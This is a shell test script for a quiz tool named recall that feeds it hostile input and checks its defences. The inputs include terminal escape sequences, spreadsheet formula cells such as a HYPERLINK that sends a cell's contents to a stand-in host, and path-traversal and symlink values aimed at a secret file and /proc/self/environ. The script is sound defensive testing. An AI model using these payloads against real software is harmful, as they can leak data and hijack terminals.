#!/bin/sh
# hostile.sh - input crafted to attack: escape sequences typed as answers,
# cells a spreadsheet would run, files that are not what they claim
. tests/lib.sh
export TZ=UTC COLUMNS=80
FILL="$RECALL_BUILD/helpers/store_fill"
DB="$T/recall.db"
ESC=$(printf '\033')

run "$FILL" "$DB" < "$ROOT/tests/helpers/store_sample.txt"
expect_status "the sample results are recorded" 0

# --- export to a terminal ---------------------------------------------------

# `script` gives recall a terminal and keeps every byte it writes there.
on_tty() {
	script -qec "$*" /dev/null > "$T/tty" 2>&1
}
command -v script > /dev/null 2>&1 || { not_ok "script (util-linux) is installed"; exit 0; }
for format in csv json; do
	on_tty "'$RECALL' export --db '$DB' --user alice --format $format"
	if grep -q "$ESC" "$T/tty"; then
		not_ok "export --format $format to a terminal writes no escape sequence" \
			"$(grep "$ESC" "$T/tty" | od -c | head -5)"
	else ok "export --format $format to a terminal writes no escape sequence"; fi
done
on_tty "'$RECALL' export --db '$DB' --user alice"
expect_grep "on a terminal, a typed escape is shown as a picture" "$T/tty" "␛[2J"
run "$RECALL" export --db "$DB" --user alice
expect_grep "into a file, the answer stays as typed" "$T/out" "$ESC[2J"

# --- CSV cells a spreadsheet would take for formulas --------------------------

CELLS="$T/cells.db"
{
	echo "bank|$(printf '%064d' 7)|Cells|/banks/cells.yaml"
	echo "question|q1|text|1|Anything?|x"
	echo "session|mallory|practice|2024-05-04T08:30:00Z||6|"
	for answer in '=HYPERLINK("http://x.example/?"&A1)' '+1+cmd' "-2+3" '@SUM(A1)' \
		'\tTAB' '-5'; do
		echo "answer|q1|wrong|0|0|0|1000|2024-05-04T08:30:10Z|$answer"
	done
	echo "end|complete|||2024-05-04T08:31:00Z"
} > "$T/cells.txt"
run "$FILL" "$CELLS" < "$T/cells.txt"
expect_status "answers that look like formulas are recorded" 0
run "$RECALL" export --db "$CELLS" --user mallory
cut -d, -f13- "$T/out" | sed 1d | tr -d '\r' | sed 's/,wrong,.*//' > "$T/cells"
cat > "$T/expected" <<'CELLS'
"'=HYPERLINK(""http://x.example/?""&A1)"
"'+1+cmd"
"'-2+3"
"'@SUM(A1)"
"'	TAB"
-5
CELLS
expect_file "CSV cells that a spreadsheet would run start with a quote; plain numbers stay" \
	"$T/cells" "$T/expected"
run "$RECALL" export --db "$CELLS" --user mallory --format json
expect_grep "JSON keeps the answer as typed" "$T/out" '"answer":"=HYPERLINK'

# --- an answer longer than can be stored ------------------------------------

BANK="$ROOT/quizzes/china-fentanyl-sanctions.yaml"
{ head -c 70000 /dev/zero | tr '\0' x; echo; echo "2023"; } > "$T/long.txt"
RECALL_DB="$T/long.db" "$RECALL" take --mode exam --limit 1 --seed 1 "$BANK" \
	< "$T/long.txt" > "$T/out" 2> "$T/err"
status=$?
expect_status "a 70,000-byte answer does not end the quiz" 0
expect_grep "it is refused, and the student asked again" "$T/out" \
	"That line is longer than 64 KiB, so it was not taken; type a shorter one."
saved=$(sqlite3 "$T/long.db" "SELECT s.status || ' ' || r.answer FROM session s JOIN response r ON r.session_id = s.id")
expect_text "the next line is the answer, and the quiz completes" /dev/stdin "complete 2023" <<ANSWER
$saved
ANSWER

# --- articles outside the bank's folder tree ----------------------------------

mkdir -p "$T/proj/quizzes" "$T/proj/content"
printf '# Secret\n\nThe password is TOPSECRET.\n' > "$T/secret.md"
ln -s "$T/secret.md" "$T/proj/content/link.md"
bank_naming() {
	printf 'recall: 1\narticle: %s\nquestions:\n  - kind: text\n    prompt: What is it?\n    answer: nothing\n    source: "The password is nothing"\n' "$1" > "$T/proj/quizzes/$2.yaml"
}
bank_naming "$T/secret.md" absolute
bank_naming "../../secret.md" up
bank_naming "../content/link.md" link
bank_naming "/proc/self/environ" proc
for name in absolute up link proc; do
	run "$RECALL" check "$T/proj/quizzes/$name.yaml"
	expect_status "check: an article outside the tree ($name) is an error" 1
	expect_grep "check: it is named as outside the bank's folder tree ($name)" "$T/err" \
		"is outside the bank's folder tree"
	if grep -q "TOPSECRET\|PATH=" "$T/out" "$T/err"; then
		not_ok "check: nothing of the file is shown ($name)" "$(grep "TOPSECRET\|PATH=" "$T/err" | head -3)"
	else ok "check: nothing of the file is shown ($name)"; fi
	run "$RECALL" build "$T/proj/quizzes/$name.yaml" -o "$T/$name.quiz"
	expect_status "build: refused ($name)" 1
	[ -e "$T/$name.quiz" ] && not_ok "build: no pack written ($name)" ||
		ok "build: no pack written ($name)"
done
run "$RECALL" check --articles "$T" "$T/proj/quizzes/up.yaml"
expect_grep "--articles DIR lets the bank name an article under DIR" "$T/err" \
	"source not found in the article"
RECALL_ARTICLES="$T" "$RECALL" check "$T/proj/quizzes/absolute.yaml" > "$T/out" 2> "$T/err"
expect_grep "so does RECALL_ARTICLES" "$T/err" "source not found in the article"
mkfifo "$T/proj/content/fifo.md"
bank_naming "../content/fifo.md" fifo
run "$RECALL" check "$T/proj/quizzes/fifo.yaml"
expect_grep "an article that is not a regular file is refused" "$T/err" "is not a regular file"

# --- who can read the answers -------------------------------------------------

mkdir "$T/own" "$T/class"
chmod 755 "$T/own"
chmod 2770 "$T/class"
printf 'id,name\ns01,Ana\n' > "$T/7b.csv"
"$RECALL" roster import "$T/7b.csv" --class 7B --db "$T/own/recall.db" > /dev/null 2>&1
"$RECALL" roster import "$T/7b.csv" --class 7B --db "$T/class/recall.db" > /dev/null 2>&1
expect_text "a new database is private to its owner" /dev/stdin "600" <<MODE
$(stat -c %a "$T/own/recall.db")
MODE
expect_text "in a folder shared with a group, the group may read and write it, no one else" \
	/dev/stdin "660" <<MODE
$(stat -c %a "$T/class/recall.db")
MODE

# A usage error quotes what was typed: an escape sequence in it is shown as
# a picture, never sent to the terminal.
esc=$(printf '\033]0;pwned\007')
run "$RECALL" read --width "$esc" "$ROOT/content/china-fentanyl-sanctions.md"
expect_status "a usage error quoting an escape: exit 2" 2
if grep -q "$(printf '\033')" "$T/err"; then not_ok "a usage error quoting an escape sends none" "$(cat -v "$T/err")"; else
	ok "a usage error quoting an escape sends none"; fi
